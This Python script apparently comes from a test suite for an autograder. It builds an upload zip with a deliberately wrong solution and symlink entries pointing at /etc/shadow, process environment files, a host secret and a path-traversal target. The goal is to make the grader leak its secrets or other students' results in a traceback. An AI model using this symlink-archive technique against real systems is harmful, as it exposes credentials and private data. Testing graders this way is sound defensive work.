"""Have the grader read its own environment, or the results of others, into a traceback."""

import os
import sys
from pathlib import Path

sys.dont_write_bytecode = True
sys.path.insert(0, str(Path(__file__).parent.parent / "forge"))

from solutions import WRONG
from zips import Entry, archive

places = [
    os.environ["GRADEBOX_HOST_SECRET"], "/proc/self/environ", "/etc/shadow", "/etc/hostname", "/proc/self/cmdline",
    "../../../../class.json", "/proc/1/environ",
]
entries = [Entry("solution.py", WRONG)]
entries += [Entry("link%d.py" % i, place, method=0, mode=0o120777) for i, place in enumerate(places)]
# Some systems' marks: made on DOS, so that a reader may look for no mode there.
entries += [Entry("solution.pyw", "/proc/self/environ", method=0, mode=0o120777)]
(Path(sys.argv[1]) / "upload.zip").write_bytes(archive(*entries))
